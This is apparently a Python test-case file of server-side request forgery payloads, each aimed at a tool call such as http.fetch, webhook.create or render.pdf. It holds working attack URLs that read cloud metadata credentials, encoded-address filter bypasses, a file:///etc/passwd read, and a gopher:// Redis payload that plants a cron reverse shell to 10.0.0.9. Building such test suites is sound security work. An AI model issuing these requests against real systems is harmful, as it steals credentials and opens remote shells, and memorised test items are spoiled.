# SSRF attacks.
F = "ssrf"
PAT = "PayloadsAllTheThings/Server Side Request Forgery"
PATC = "PayloadsAllTheThings/SSRF/Cloud Instances"
HT = "HackTricks/Cloud SSRF"

CASES = [
    (F, "AWS IMDSv1 role credentials", PATC, "webhook.create",
     {"event": "ticket.created", "target_url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "secret_ref": "vault:helpdesk/webhook"}),

    (F, "AWS IMDSv2 token PUT", PATC, "http.fetch",
     {"url": "http://169.254.169.254/latest/api/token", "method": "PUT", "headers": {"X-aws-ec2-metadata-token-ttl-seconds": "21600"}}),

    (F, "GCP metadata service-account token", PATC, "http.fetch",
     {"url": "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "method": "GET", "headers": {"Metadata-Flavor": "Google"}}),

    (F, "Azure IMDS managed identity token", PATC, "zap.run_step",
     {"zap_id": "Z-90211", "step": {"app": "Webhooks by Zapier", "action": "GET",
      "input": {"url": "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", "headers": {"Metadata": "true"}}}}),

    (F, "Alibaba Cloud metadata RAM credentials", PATC, "link.preview",
     {"url": "http://100.100.100.200/latest/meta-data/ram/security-credentials/", "channel": "#general"}),

    (F, "decimal-encoded metadata IP", PAT, "docs.import",
     {"source_url": "http://2852039166/latest/user-data", "format": "text"}),

    (F, "octal-encoded metadata IP", PAT, "webhook.test",
     {"url": "http://0251.0376.0251.0376/latest/meta-data/", "payload": {"ping": True}}),

    (F, "hex-encoded loopback with port", PAT, "http.fetch",
     {"url": "http://0x7f000001:8500/v1/kv/?recurse", "method": "GET"}),

    (F, "IPv4-mapped IPv6 metadata", PAT, "link.preview",
     {"url": "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "channel": "#sales"}),

    (F, "IPv6 loopback to Redis port", PAT, "webhook.create",
     {"event": "invoice.paid", "target_url": "http://[::1]:6379/", "format": "json"}),

    (F, "0.0.0.0 to local admin console", PAT, "http.fetch",
     {"url": "http://0.0.0.0:15672/api/definitions", "method": "GET", "auth": {"basic": "guest:guest"}}),

    (F, "short-form loopback 127.1", PAT, "drive.import_url",
     {"url": "http://127.1:9200/_cat/indices?v", "dest_folder": "Imports"}),

    (F, "nip.io DNS that resolves to metadata", PAT, "render.pdf",
     {"html": "<html><body><h1>Quote</h1><img src=\"http://169.254.169.254.nip.io/latest/meta-data/iam/security-credentials/\"></body></html>", "page_size": "A4"}),

    (F, "localtest.me loopback alias", PAT, "webhook.create",
     {"event": "user.signup", "target_url": "http://admin.localtest.me:8080/actuator/env"}),

    (F, "open redirect to metadata", PAT, "http.fetch",
     {"url": "https://httpbin.org/redirect-to?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", "method": "GET", "follow_redirects": True}),

    (F, "gopher:// to Redis write cron", PAT + " / Gopherus", "http.fetch",
     {"url": "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2464%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.0.0.9%2F1234%200%3E%261%0A%0A%0A%0D%0A%2A4%0D%0A%246%0D%0Aconfig%0D%0A%243%0D%0Aset%0D%0A%243%0D%0Adir%0D%0A%2416%0D%0A%2Fvar%2Fspool%2Fcron%0D%0A", "method": "GET"}),

    (F, "file:// scheme in import-from-URL", PAT, "docs.import",
     {"source_url": "file:///etc/passwd", "format": "csv", "target_sheet": "Contacts"}),

    (F, "dict:// memcached probe", PAT, "link.preview",
     {"url": "dict://127.0.0.1:11211/stats", "channel": "#eng"}),

    (F, "ldap:// internal directory", PAT, "sso.test_connection",
     {"provider": "ldap", "url": "ldap://10.20.0.5:389/dc=corp,dc=local??sub?(objectClass=*)"}),

    (F, "userinfo @ confusion", PAT, "webhook.create",
     {"event": "deal.won", "target_url": "https://hooks.slack.com@169.254.169.254/latest/meta-data/"}),

    (F, "backslash-at parser differential", "Orange Tsai - A New Era of SSRF", "http.fetch",
     {"url": "http://127.0.0.1:2375\\@api.github.com/containers/json", "method": "GET"}),

    (F, "fragment confusion with allowlisted host", "Orange Tsai - A New Era of SSRF", "link.preview",
     {"url": "http://10.0.0.12:8080#@hooks.zapier.com/", "channel": "#ops"}),

    (F, "PDF renderer iframe to Docker API", "own design", "render.pdf",
     {"html": "<p>Statement</p><iframe src=\"http://172.17.0.1:2375/containers/json?all=1\" width=800 height=600></iframe>", "wait_for_network_idle": True}),

    (F, "Kubernetes API from inside cluster", HT, "http.fetch",
     {"url": "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "method": "GET", "verify_tls": False}),

    (F, "ECS task credential endpoint", PATC, "http.fetch",
     {"url": "http://169.254.170.2/v2/credentials/5f1c4a2e-8c1b-4f4e-9a57-0b8a2d3c7e11", "method": "GET"}),

    (F, "AWS IPv6 IMDS endpoint", PATC, "webhook.test",
     {"url": "http://[fd00:ec2::254]/latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance", "payload": {}}),

    (F, "DNS rebinding hostname", "own design / rbndr", "link.preview",
     {"url": "http://7f000001.a9fea9fe.rbndr.us:8080/admin", "channel": "#support"}),

    (F, "enclosed alphanumerics for loopback", PAT, "http.fetch",
     {"url": "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460:8080/manage/shutdown", "method": "POST"}),

    (F, "OIDC jwks_uri pointed at internal host", "own design", "sso.configure",
     {"issuer": "https://login.partner-idp.com", "jwks_uri": "http://10.0.3.14:10250/pods", "client_id": "helpdesk-app"}),

    (F, "Oracle Cloud / DigitalOcean metadata", PATC, "email.render",
     {"template": "digest", "remote_images": ["http://192.0.0.192/latest/meta-data/", "http://169.254.169.254/metadata/v1/user-data"], "inline_images": True}),
]
